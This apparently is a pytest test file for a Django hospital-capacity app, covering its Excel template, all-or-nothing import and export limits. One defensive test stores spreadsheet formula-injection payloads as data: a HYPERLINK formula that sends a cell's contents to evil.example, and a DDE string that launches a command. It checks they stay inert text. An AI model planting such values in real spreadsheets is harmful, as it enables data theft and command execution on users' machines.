"""The Excel template and the all-or-nothing import: bad files get named problems and save nothing."""

import io
import time
from typing import Any

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from fagnett.accounts.models import User
from fagnett.capacity.excel import COLUMNS, SHEET
from fagnett.capacity.models import CapacityEntry, ReportRound
from fagnett.capacity.tests.factories import make_entry, make_round, units_of
from fagnett.organisations.models import Hospital, Unit
from tests.factories import World

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def english(world: World) -> None:
    """The problems are checked word for word in English; every person here reads Fagnett in English."""
    User.objects.update(language="en")


@pytest.fixture
def round_(world: World) -> ReportRound:
    return make_round(world.region_a)


def _template(client: Client, round_: ReportRound) -> Any:
    response = client.get(f"/capacity/rounds/{round_.pk}/template.xlsx")
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def _bytes(book: Any) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _upload(client: Client, round_: ReportRound, content: bytes, name: str = "kapasitet.xlsx") -> Any:
    upload = io.BytesIO(content)
    upload.name = name
    return client.post(f"/capacity/rounds/{round_.pk}/upload/", {"file": upload})


def _problems(response: Any) -> list[str]:
    assert response.status_code == 200
    return [str(p) for p in response.context["problems"]] or [str(e) for e in response.context["form"].errors["file"]]


def _set(book: Any, row: int, column: str, value: Any) -> None:
    book[SHEET].cell(row=row, column=COLUMNS.index(column) + 1, value=value)


def test_template_lists_the_reporters_units_prefilled(world: World, login_as: Any, round_: ReportRound) -> None:
    unit = units_of(world)[0]
    make_entry(round_, unit, "K1", "normal", physical_beds=3, staffed_beds=2)
    client = login_as("reporter")
    sheet = _template(client, round_)[SHEET]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == list(COLUMNS)  # the codes, in the hidden first row
    assert rows[1][:5] == ("Unit number", "Unit", "Hospital", "Bed category", "Scenario")
    assert len(rows) == 2 + 12  # one unit × 3 categories × 4 scenarios
    assert rows[2][:7] == (unit.pk, unit.name, unit.hospital.name, "K1", "Normal operation", 3, 2)


def test_a_filled_template_imports(world: World, login_as: Any, round_: ReportRound) -> None:
    client = login_as("reporter")
    book = _template(client, round_)
    for row in range(3, 15):
        _set(book, row, "physical_beds", 8)
        _set(book, row, "staffed_beds", 6)
        _set(book, row, "nurses_fte", 12.5)
    _set(book, 3, "status", "Limited")
    _set(book, 3, "restrictions", "Staff, rooms")
    response = _upload(client, round_, _bytes(book))
    assert response.status_code == 302
    assert CapacityEntry.objects.filter(round=round_, source="excel").count() == 12
    first = CapacityEntry.objects.get(round=round_, category="K1", scenario="normal")
    assert first.restrictions == ["rooms", "staff"] and str(first.nurses_fte) == "12.5" and first.ventilators is None


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (lambda b: _set(b, 1, "staffed_beds", "staffed"), "missing: staffed_beds"),
        (lambda b: _set(b, 3, "staffed_beds", "fem"), "row 3, column staffed_beds"),
        (lambda b: _set(b, 4, "physical_beds", -2), "row 4, column physical_beds"),
        (lambda b: (_set(b, 5, "physical_beds", 3), _set(b, 5, "staffed_beds", 4)), "row 5, column staffed_beds"),
        (lambda b: _set(b, 6, "unit_id", 999999), "row 6, column unit_id"),
        (lambda b: _set(b, 7, "category", "K4"), "row 7, column category"),
        (lambda b: _set(b, 8, "comment", "Pasient 01017000027"), "row 8, column comment"),
    ],
)
def test_bad_rows_are_named_and_nothing_is_saved(
    world: World, login_as: Any, round_: ReportRound, change: Any, expected: str
) -> None:
    client = login_as("reporter")
    book = _template(client, round_)
    for row in range(3, 15):
        _set(book, row, "physical_beds", 8)
        _set(book, row, "staffed_beds", 6)
    change(book)
    problems = _problems(_upload(client, round_, _bytes(book)))
    assert any(expected in p for p in problems), problems
    assert not CapacityEntry.objects.exists()


def test_another_trusts_unit_is_unknown(world: World, login_as: Any, round_: ReportRound) -> None:
    client = login_as("reporter")
    book = _template(client, round_)
    _set(book, 2, "unit_id", units_of(world, 1)[0].pk)
    _set(book, 2, "staffed_beds", 1)
    problems = _problems(_upload(client, round_, _bytes(book)))
    assert any("row 2, column unit_id" in p for p in problems)
    assert not CapacityEntry.objects.exists()


@pytest.mark.parametrize(
    ("content", "expected"),
    [(b"", "The file"), (b"unit_id;staffed_beds\n1;2\n", "not an Excel"), (b"%PDF-1.4 not excel", "not an Excel")],
)
def test_empty_and_non_excel_files(
    world: World, login_as: Any, round_: ReportRound, content: bytes, expected: str
) -> None:
    client = login_as("reporter")
    response = _upload(client, round_, content, "fil.xlsx")
    assert response.status_code == 200
    assert not CapacityEntry.objects.exists()
    problems = _problems(response)
    assert problems


def test_workbook_without_data_rows_or_wrong_sheet(world: World, login_as: Any, round_: ReportRound) -> None:
    client = login_as("reporter")
    book = Workbook()
    sheet = book.active
    sheet.title = SHEET
    sheet.append(list(COLUMNS))
    assert any("no rows" in p for p in _problems(_upload(client, round_, _bytes(book))))
    other = Workbook()
    other.active.title = "Ark1"
    assert any("no sheet" in p for p in _problems(_upload(client, round_, _bytes(other))))


def test_a_closed_round_needs_a_reason_on_every_row(world: World, login_as: Any) -> None:
    closed = make_round(world.region_a, status=ReportRound.Status.CLOSED)
    client = login_as("reporter")
    book = _template(client, closed)
    _set(book, 3, "staffed_beds", 3)
    problems = _problems(_upload(client, closed, _bytes(book)))
    assert any("column correction_reason" in p for p in problems)
    assert not CapacityEntry.objects.exists()


def test_two_thousand_rows_import(world: World, login_as: Any, round_: ReportRound) -> None:
    trust = world.trusts_a[0]
    existing = units_of(world)
    hospital = Hospital.objects.create(trust=trust, name="Storsykehuset")
    units = Unit.objects.bulk_create(Unit(hospital=hospital, name=f"Intensiv {i}") for i in range(167))
    book = Workbook()
    sheet = book.active
    sheet.title = SHEET
    sheet.append(list(COLUMNS))
    rows = 0
    for unit in [*units, *existing]:
        for category in ("K1", "K2", "K3"):
            for scenario in ("normal", "low_activity", "surge_7d", "max_surge"):
                values = {"physical_beds": 10, "staffed_beds": 8, "ventilated_beds": 4 if category == "K3" else None}
                sheet.append([unit.pk, "", "", category, scenario, *(values.get(c) for c in COLUMNS[5:])])
                rows += 1
    assert rows >= 2000
    client = login_as("reporter")
    started = time.monotonic()
    response = _upload(client, round_, _bytes(book))
    assert response.status_code == 302, _problems(response)[:3]
    assert CapacityEntry.objects.filter(round=round_).count() == rows
    assert time.monotonic() - started < 120


def test_big_changes_from_the_last_round_are_confirmed_before_import(world: World, login_as: Any) -> None:
    import datetime

    unit = units_of(world)[0]
    old = make_round(world.region_a, name="Q4 2025", period_start=datetime.date(2025, 10, 1))
    make_entry(old, unit, "K3", "normal", physical_beds=4, staffed_beds=3)
    round_ = make_round(world.region_a)
    client = login_as("reporter")
    book = _template(client, round_)
    sheet = book[SHEET]
    row = next(
        r
        for r in range(3, 15)
        if sheet.cell(row=r, column=4).value == "K3" and sheet.cell(row=r, column=5).value == "Normal operation"
    )
    assert sheet.cell(row=row, column=COLUMNS.index("staffed_beds") + 1).value == 3  # prefilled from the last round
    _set(book, row, "physical_beds", 12)
    _set(book, row, "staffed_beds", 11)
    problems = _problems(_upload(client, round_, _bytes(book)))
    assert any(f"row {row}" in p and "11" in p for p in problems)
    assert not CapacityEntry.objects.filter(round=round_).exists()
    upload = io.BytesIO(_bytes(book))
    upload.name = "k.xlsx"
    response = client.post(f"/capacity/rounds/{round_.pk}/upload/", {"file": upload, "confirm_jumps": "on"})
    assert response.status_code == 302
    assert CapacityEntry.objects.get(round=round_, category="K3", scenario="normal").staffed_beds == 11


LINK = '=HYPERLINK("https://evil.example/?d="&A1;"Klikk her")'


def test_template_names_and_comments_are_text_and_come_back_unchanged(
    world: World, login_as: Any, round_: ReportRound
) -> None:
    """A comment or a unit's name that reads like a formula is a text cell marked "quote prefix" in the template
    (never a formula, no apostrophe added), and the file uploaded as it was keeps the comment word for word."""
    unit = units_of(world)[0]
    Unit.objects.filter(pk=unit.pk).update(name="+cmd|' /C calc'!A0")
    for category in ("K1", "K2", "K3"):
        for scenario in ("normal", "low_activity", "surge_7d", "max_surge"):
            make_entry(
                round_, unit, category, scenario, comment=LINK if (category, scenario) == ("K1", "normal") else ""
            )
    client = login_as("reporter")
    response = client.get(f"/capacity/rounds/{round_.pk}/template.xlsx")
    sheet = load_workbook(io.BytesIO(response.content))[SHEET]
    comment = sheet.cell(row=3, column=COLUMNS.index("comment") + 1)
    name = sheet.cell(row=3, column=COLUMNS.index("unit") + 1)
    assert (comment.value, comment.data_type, comment.quotePrefix) == (LINK, "s", True)
    assert (name.value, name.data_type, name.quotePrefix) == ("+cmd|' /C calc'!A0", "s", True)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)

    assert _upload(client, round_, response.content).status_code == 302
    saved = CapacityEntry.objects.get(round=round_, unit=unit, category="K1", scenario="normal", is_current=True)
    assert (saved.source, saved.comment) == ("excel", LINK)


def test_a_file_over_the_row_limit_is_refused_naming_the_limit(
    world: World, login_as: Any, round_: ReportRound, monkeypatch: pytest.MonkeyPatch
) -> None:
    from fagnett.capacity import excel

    client = login_as("reporter")
    book = _template(client, round_)
    for row in range(3, 15):
        _set(book, row, "physical_beds", 8)
        _set(book, row, "staffed_beds", 6)
    monkeypatch.setattr(excel, "MAX_ROWS", 5)  # the child process that reads the file is forked: it sees this too
    problems = _problems(_upload(client, round_, _bytes(book)))
    assert problems == [
        "Sheet Capacity, row 8: The file has more than 5 rows with data; the import reads at most that many. "
        "Split the file."
    ]
    assert not CapacityEntry.objects.exists()


def test_a_template_or_export_over_its_bound_is_refused_with_a_message(
    world: World, login_as: Any, round_: ReportRound, monkeypatch: pytest.MonkeyPatch
) -> None:
    from fagnett.capacity import excel

    make_entry(round_, units_of(world)[0])
    make_entry(round_, units_of(world)[0], "K2")
    monkeypatch.setattr(excel, "MAX_ROWS", 11)  # the reporter's template has 12 rows
    monkeypatch.setattr(excel, "MAX_EXPORT_ROWS", 1)
    for role, url in [
        ("reporter", f"/capacity/rounds/{round_.pk}/template.xlsx"),
        ("coordinator", f"/capacity/rounds/{round_.pk}/export.csv"),
        ("coordinator", f"/capacity/rounds/{round_.pk}/export.xlsx"),
    ]:
        client = login_as(role)
        response = client.get(url)
        assert response.status_code == 302 and "Content-Disposition" not in response, url
        assert response["Location"] == round_.get_absolute_url()
        page = client.get(response["Location"]).content.decode()
        assert "Nothing was exported: one file holds at most" in page, url
